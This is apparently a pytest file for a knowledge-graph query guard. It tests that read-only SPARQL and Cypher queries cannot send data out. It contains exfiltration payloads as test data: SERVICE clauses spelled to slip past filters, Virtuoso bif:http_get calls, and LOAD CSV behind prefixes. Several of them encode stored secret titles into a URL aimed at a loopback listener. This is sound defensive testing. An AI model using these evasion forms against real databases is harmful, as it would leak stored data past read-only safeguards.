"""Read-only means no effect outside the answer, and every query has a time limit
(issue 32). Each way the attack got data out of a read-only query is tried against the
engine that would run it, with a loopback HTTP listener in the test counting the
requests that reach it: refused, none arrives; where the user allows it, one does (so
the form is real, not a syntax error). The time limit is a cartesian query on each
store, stopped with E043 and no traceback. Runs against the real Neo4j and Virtuoso
that `make test` starts; the embedded store needs nothing."""
from __future__ import annotations

import http.server
import subprocess
import threading
import time
from pathlib import Path

import pyoxigraph as ox
import pytest

from sanctions_kg.errors import SkgError
from sanctions_kg.graph import query_guard
from sanctions_kg.graph.store import EmbeddedStore

from conftest import skg_in_process

VOCAB = "https://w3id.org/sanctions-kg/vocab#"
CARTESIAN = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
QUERIES = Path(__file__).resolve().parents[1] / "graph" / "queries"


def skg(*args) -> subprocess.CompletedProcess:
    """In this process (conftest.skg_in_process): each store bounds its own queries."""
    return skg_in_process(*args)


def refused(proc: subprocess.CompletedProcess, code: str) -> bool:
    """The command failed with this code, as a message and not a traceback."""
    return proc.returncode == 2 and code in proc.stderr and "Traceback" not in proc.stderr


def refused_everywhere(store, query: str, code: str, *option: str) -> None:
    """The query is refused with `code` by the store's `query` and by `skg query`
    (`option`: how the command names the store and the language)."""
    with pytest.raises(SkgError, match=code):
        store.query(query)
    assert refused(skg("query", *option, query), code)


@pytest.fixture
def listener():
    """A loopback HTTP server counting the requests it gets: (method, path and query,
    body). It answers a .csv path with CSV and anything else with empty SPARQL results,
    so an allowed request succeeds."""
    got: list[tuple[str, str, str]] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
            got.append((self.command, self.path, body))
            csv = self.path.split("?")[0].endswith(".csv")
            self.send_response(200)
            self.send_header("Content-Type", "text/csv" if csv else "application/sparql-results+json")
            self.end_headers()
            self.wfile.write(b"a,b\n1,2\n" if csv else b'{"head": {"vars": []}, "results": {"bindings": [{}]}}')

        do_GET = do_POST = answer

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", got
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def titled_store(tmp_path_factory) -> Path:
    """An embedded store with 400 articles and their (secret) titles: enough triples
    for a cartesian query to run for minutes."""
    path = tmp_path_factory.mktemp("guard") / "store"
    db = EmbeddedStore(path)
    for i in range(400):
        article = ox.NamedNode(f"https://w3id.org/sanctions-kg/id/article/{i:04}")
        db.store.add(ox.Quad(article, ox.NamedNode(VOCAB + "title"), ox.Literal(f"secret title {i}"), article))
    db.close()
    return path


# ---- SERVICE on the embedded store: three spellings the fallback regex missed ----------------
def _service_forms(url: str) -> dict[str, str]:
    return {
        "glued to SILENT": f"SELECT * WHERE {{ SERVICESILENT <{url}/sparql> {{ ?s ?p ?o }} }}",
        "glued to a prefixed name": f"PREFIX r: <{url}/sparql#> SELECT * WHERE {{ SERVICEr:x {{ ?s ?p ?o }} }}",
        "after LATERAL, its IRI built from stored titles":
            f"SELECT * WHERE {{ ?a skg:title ?t . BIND(IRI(CONCAT('{url}/sparql?q=', ENCODE_FOR_URI(?t))) AS ?u) "
            "LATERAL { SERVICE ?u { ?s ?p ?o } } } LIMIT 1",
    }


@pytest.mark.parametrize("form", ["glued to SILENT", "glued to a prefixed name",
                                  "after LATERAL, its IRI built from stored titles"])
def test_a_service_clause_however_spelled_sends_nothing_from_the_embedded_store(titled_store, listener, form):
    url, got = listener
    query = _service_forms(url)[form]
    assert refused(skg("query", "--store", titled_store, "--sparql", query), "E038")
    assert got == [], got  # nothing reached the listener
    allowed = skg("query", "--store", titled_store, "--sparql", query, "--allow-service")
    assert "Traceback" not in allowed.stderr and got, allowed.stderr  # the form is real: allowed, it goes out
    if "titles" in form:
        assert "secret%20title" in got[0][1]  # ... with a stored title in its URL


@pytest.mark.parametrize("text", [
    "SELECT * WHERE { SERVICE <http://x/> { ?s ?p ?o } }",
    "SELECT * WHERE { service\tsilent <http://x/> { ?s ?p ?o } }",
    "SELECT * WHERE { SERVICESILENT <http://x/> { ?s ?p ?o } }",
    "PREFIX r: <http://x/> SELECT * WHERE { SERVICEr:x { ?s ?p ?o } }",
    "PREFIX : <http://x/> SELECT * WHERE { SERVICE:x { ?s ?p ?o } }",
    "SELECT * WHERE { \\u0053ERVICE <http://x/> { ?s ?p ?o } }",
    "SELECT * WHERE { ?s ?p trueSERVICE <http://x/> { ?s ?p ?o } }",
    "SELECT * WHERE { ?s ?p 'x'@enSERVICE <http://x/> { ?s ?p ?o } }",
    "SELECT * WHERE { ?s ?p '\\u0027 SERVICE <http://x/> {} \\u0027' }",
    "SELECT * WHERE { ?s ?p ?o } # comment ends at a carriage return\r SERVICE <http://x/> {}",
])
def test_every_spelling_of_service_is_seen(text):
    with pytest.raises(SkgError, match="E038"):
        query_guard.check_sparql(text)
    query_guard.check_sparql(text, allow_service=True)  # allowed, nothing else in it is refused


@pytest.mark.parametrize("text", [
    "SELECT ?service WHERE { ?service skg:title 'Secret Service; SERVICE <http://x/> {}' } # SERVICE",
    "SELECT * WHERE { ?s <http://example.org/secret-service> ?o . ?s skg:service ?x }",
    "SELECT (xsd:integer(?o) AS ?n) WHERE { ?s ?p ?o FILTER(?o < ?s && STRLEN(?o) > 2) }",
    *[path.read_text(encoding="utf-8") for path in sorted(QUERIES.glob("*.rq"))],
])
def test_plain_reads_are_not_refused(text):
    query_guard.check_sparql(text)


# ---- Virtuoso: bif:/sql: procedures --------------------------------------------------------
@pytest.mark.parametrize("call", ["bif:http_get", "<bif:http_get>"])
def test_a_virtuoso_procedure_cannot_fetch_a_url_from_a_read_only_query(sparql_store, listener, call):
    url, got = listener
    query = f"SELECT (STR({call}(CONCAT('{url}/v?', ENCODE_FOR_URI(?t)))) AS ?x) WHERE {{ BIND('secret title' AS ?t) }}"
    refused_everywhere(sparql_store, query, "E042", "--sparql-endpoint", sparql_store.endpoint, "--sparql")
    assert got == [], got
    sparql_store.query(query, write=True)  # the form is real: with --write Virtuoso fetches it
    assert got and "secret%20title" in got[0][1]


@pytest.mark.parametrize("text", [
    "SELECT (bif:http_get('http://x/') AS ?x) WHERE {}",
    "SELECT (<bif:http_get>('http://x/') AS ?x) WHERE {}",
    "SELECT (sql:RDF_SPONGE_UP('http://x/') AS ?x) WHERE {}",
    "PREFIX b: <bif:> SELECT (b:http_get('http://x/') AS ?x) WHERE {}",
    "SELECT * WHERE { ?s ?p ?o FILTER(?o<?p&&bif:http_get('http://x/')>0) }",
    "PREFIX ex: <http://example.org/> SELECT (ex:fetch(?o) AS ?x) WHERE { ?s ?p ?o }",
    "SELECT * WHERE { ?s bif:contains 'x' }",
])
def test_server_procedures_and_extension_functions_are_refused_unless_write(text):
    with pytest.raises(SkgError, match="E042"):
        query_guard.check_sparql(text)
    query_guard.check_sparql(text, write=True)


# ---- Neo4j: LOAD CSV under any prefix, admin commands, procedures ----------------------------
@pytest.mark.parametrize("prefix", ["PROFILE", "EXPLAIN PROFILE", "CYPHER 5 PROFILE", "/* note */ PROFILE // x\n",
                                    "CYPHER runtime=slotted EXPLAIN"])
def test_load_csv_behind_any_prefix_fetches_nothing(neo4j_store, listener, prefix):
    url, got = listener
    query = f"{prefix} LOAD CSV FROM '{url}/titles.csv' AS row RETURN row"
    refused_everywhere(neo4j_store, query, "E039", "--neo4j", neo4j_store.uri, "--cypher")
    assert got == [], got
    if prefix == "PROFILE":
        neo4j_store.query(query, write=True)  # the form is real: with --write the server fetches the file
        assert got


def test_terminate_transactions_cannot_end_another_clients_work(neo4j_store):
    """A read-only query tried to end the transaction of a running ingest (the attack
    killed one): refused, and that transaction commits afterwards."""
    from neo4j import GraphDatabase

    driver = GraphDatabase.driver(neo4j_store.uri)
    try:
        with driver.session() as other:
            tx = other.begin_transaction()
            tx.run("CREATE (:GuardProbe {n: 1})").consume()
            ids = [r["id"] for r in neo4j_store.cypher("SHOW TRANSACTIONS YIELD transactionId AS id, currentQuery AS q "
                                                       "WHERE NOT q STARTS WITH 'SHOW' RETURN id")]
            assert ids
            for text in [f"TERMINATE TRANSACTIONS '{ids[0]}'", f"terminate transaction '{ids[0]}'",
                         "SHOW TRANSACTIONS", "SHOW TRANSACTIONS YIELD transactionId AS t RETURN t"]:
                refused_everywhere(neo4j_store, text, "E042", "--neo4j", neo4j_store.uri, "--cypher")
            tx.run("CREATE (:GuardProbe {n: 2})").consume()
            tx.commit()  # still alive
        assert neo4j_store.cypher("MATCH (p:GuardProbe) RETURN count(p) AS n")[0]["n"] == 2
    finally:
        driver.close()


@pytest.mark.parametrize("text, code", [
    ("CALL dbms.listConfig()", "E042"),
    ("CALL db.clearQueryCaches()", "E042"),
    ("SHOW DATABASES", "E042"),
    ("SHOW SETTINGS", "E042"),
    ("MATCH (n) DETACH DELETE n", "E013"),
    ("MATCH (n) CALL { WITH n SET n.x = 1 } IN TRANSACTIONS", "E013"),
])
def test_procedures_admin_commands_and_writes_are_refused(neo4j_store, text, code):
    with pytest.raises(SkgError, match=code):
        neo4j_store.query(text)


@pytest.mark.parametrize("text", [
    "MATCH (s)-[:PROPOSED]->(p:Proposal) RETURN s.name AS who",
    "PROFILE MATCH (show) RETURN show.name AS show LIMIT 1",
    "CALL db.labels() YIELD label RETURN label",
    "RETURN date.truncate('month', date('2024-03-06')) AS d",
])
def test_plain_cypher_reads_are_planned_and_run(neo4j_store, text):
    neo4j_store.query(text)


def test_every_named_question_passes_the_guard_on_neo4j(neo4j_store):
    from sanctions_kg.graph import catalogue

    for q in catalogue.queries().values():
        if "cypher" in q.texts:
            catalogue.ask(neo4j_store, q.name, {p.name: p.example for p in q.params.values() if p.required})


@pytest.mark.parametrize("text, asked", [
    ("PROFILE LOAD CSV FROM 'x' AS r RETURN r", "EXPLAIN LOAD CSV FROM 'x' AS r RETURN r"),
    ("explain profile MATCH (n) RETURN n", "EXPLAIN MATCH (n) RETURN n"),
    ("CYPHER 5 runtime=slotted PROFILE MATCH (n) RETURN n", "EXPLAIN CYPHER 5 runtime=slotted MATCH (n) RETURN n"),
    ("// a comment\n/* and another */ PROFILE\nMATCH (n) RETURN n", "EXPLAIN MATCH (n) RETURN n"),
])
def test_the_plan_is_asked_of_the_statement_without_its_prefixes(text, asked):
    assert query_guard.explain(text).text == asked


# ---- the time limit ------------------------------------------------------------------------
def test_a_cartesian_query_stops_at_the_limit_on_the_embedded_store(titled_store):
    started = time.monotonic()
    proc = skg("query", "--store", titled_store, "--sparql", CARTESIAN, "--timeout", "2")
    assert refused(proc, "E043"), proc.stderr
    assert time.monotonic() - started < 30  # stopped, not run to its end (hours)


def test_the_embedded_time_limit_holds_for_a_store_in_memory_too():
    db = EmbeddedStore()
    for i in range(300):
        node = ox.NamedNode(f"urn:a{i}")
        db.store.add(ox.Quad(node, ox.NamedNode("urn:p"), ox.Literal(str(i)), ox.NamedNode("urn:g")))
    with pytest.raises(SkgError, match="E043"):
        db.query(CARTESIAN, timeout=1)
    assert db.query("ASK { <urn:a1> ?p ?o }", timeout=10)  # within the limit, the answer as before


def test_a_cartesian_query_stops_at_the_limit_on_neo4j(neo4j_store):
    neo4j_store.cypher("UNWIND range(1, 300) AS i CREATE (:GuardProbe {i: i})", write=True)
    cartesian = ("MATCH (a:GuardProbe), (b:GuardProbe), (c:GuardProbe), (d:GuardProbe) "
                 "WHERE a.i + b.i + c.i + d.i > 0 RETURN count(*) AS n")
    with pytest.raises(SkgError, match="E043"):
        neo4j_store.query(cartesian, timeout=2)
    assert refused(skg("query", "--neo4j", neo4j_store.uri, "--cypher", cartesian, "--timeout", "2"), "E043")


def test_a_cartesian_query_stops_at_the_limit_on_a_sparql_endpoint(sparql_store):
    """A cartesian product stops with E043, whether Virtuoso runs it to the limit or, with
    more data stored, refuses it up front because its own estimate is over its limit."""
    cartesian = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    started = time.monotonic()
    with pytest.raises(SkgError, match="E043"):
        sparql_store.query(cartesian, timeout=2)
    assert time.monotonic() - started < 15
    assert refused(skg("query", "--sparql-endpoint", sparql_store.endpoint, "--sparql", cartesian, "--timeout", "2"),
                   "E043")
